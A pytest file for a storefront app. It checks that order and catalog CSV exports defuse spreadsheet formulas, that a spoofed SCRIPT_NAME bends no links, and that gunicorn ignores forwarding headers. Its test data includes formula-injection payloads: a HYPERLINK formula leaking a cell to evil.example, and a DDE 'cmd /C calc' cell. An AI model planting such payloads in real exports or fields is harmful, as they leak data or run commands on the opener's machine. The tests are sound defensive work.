"""Exports a spreadsheet opens safely; links and cached pages that no header can bend."""

from __future__ import annotations

import csv
import io

import pytest

from storefront.catalog import services as catalog
from storefront.catalog.models import Product
from storefront.extensions import db
from storefront.tenancy import tenant_context
from tests.fixtures.factories import API_CHECKOUT, host, login, product_id
from tests.test_commerce import ADDRESS, add_to_cart, checkout

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "address": "+1+cmd|' /C calc'!A0",
    "city": "\t=1+1",
    "postal_code": "-2+3",
}


@pytest.fixture
def shop_with_hostile_order(app, client, make_shop, make_user, product):
    shop = make_shop("acme")
    make_user(shop, "owner@example.com", roles=["owner"])
    product(shop, "anvil")
    # Through the API: the shop's checkout form holds a postal code to its country's
    # pattern, the API takes the text a client sends, so that is where such cells come in.
    added = client.post(
        "/api/v1/cart/items",
        json={"product_id": product_id(app, shop, "anvil"), "quantity": 1},
        headers=host(shop),
    )
    token = added.json["data"]["token"]
    headers = {**host(shop), "X-Cart-Token": token, "Idempotency-Key": "h" * 24}
    # Stripped, as the checkout form strips what is typed (the cells keep a leading "\t").
    typed = {name: value.strip() for name, value in HOSTILE.items()}
    placed = client.post("/api/v1/checkout", json={**API_CHECKOUT, **typed}, headers=headers)
    assert placed.status_code == 201, placed.json
    return shop


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str) -> None:
    for cell in cells(text):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for value in HOSTILE.values():
        assert "'" + value.strip() in cells(text)  # kept, readable, not a formula


def test_order_exports_neutralise_formulas(app, runner, shop_with_hostile_order):
    shop = shop_with_hostile_order
    owner = app.test_client()
    login(owner, shop, "owner@example.com")
    assert_inert(owner.get("/admin/orders.csv", headers=host(shop)).text)
    result = runner.invoke(["orders", "export", "acme"])
    assert result.exit_code == 0, result.output
    assert_inert(result.output)


def test_a_catalog_export_neutralises_formulas_and_reimports_unchanged(
    app, runner, make_shop, tmp_path
):
    shop = make_shop("acme")
    with app.app_context(), tenant_context(shop):
        catalog.create_product("=SKU", "=1+1", 100, description="@home", slug="formula")
        db.session.commit()
    target = tmp_path / "catalog.csv"
    assert runner.invoke(["catalog", "export", "acme", "-o", str(target)]).exit_code == 0
    text = target.read_text()
    assert "'=1+1" in cells(text) and "'@home" in cells(text)
    make_shop("globex")
    assert runner.invoke(["catalog", "import", "globex", str(target)]).exit_code == 0
    with app.app_context():
        from storefront.tenancy.registry import context_for

        with tenant_context(context_for("globex")):
            product = db.session.query(Product).one()
            assert (product.sku, product.title, product.description) == ("=SKU", "=1+1", "@home")


@pytest.mark.parametrize("script_name", ["//evil.example", "/evil", "http://evil.example"])
def test_a_script_name_from_the_server_bends_no_link_and_no_cached_page(
    app, make_shop, product, script_name
):
    shop = make_shop("acme")
    product(shop, "anvil")
    attacker, visitor = app.test_client(), app.test_client()
    poisoned = attacker.get("/", headers=host(shop), environ_base={"SCRIPT_NAME": script_name})
    assert poisoned.status_code == 200
    assert "evil" not in poisoned.text
    page = visitor.get("/", headers=host(shop))
    assert "evil" not in page.text
    assert 'href="/p/anvil"' in page.text


def test_gunicorn_believes_no_forwarding_header(app, monkeypatch, tmp_path):
    import runpy
    from pathlib import Path

    # Loading it names a metrics folder in os.environ (multiprocess mode): this test's own.
    monkeypatch.setenv("PROMETHEUS_MULTIPROC_DIR", str(tmp_path / "metrics"))
    settings = runpy.run_path(str(Path(__file__).resolve().parents[1] / "gunicorn.conf.py"))
    assert settings["forwarder_headers"] == ""
    assert settings["secure_scheme_headers"] == {}
    assert settings["header_map"] == "drop"


def test_orders_export_keeps_plain_values_plain(app, client, runner, make_shop, product):
    shop = make_shop("acme")
    product(shop, "anvil")
    add_to_cart(client, shop, "anvil")
    assert checkout(client, shop).status_code == 302
    rows = list(csv.DictReader(io.StringIO(runner.invoke(["orders", "export", "acme"]).output)))
    assert rows[0]["name"] == ADDRESS["name"] and rows[0]["total"].replace(".", "").isdigit()
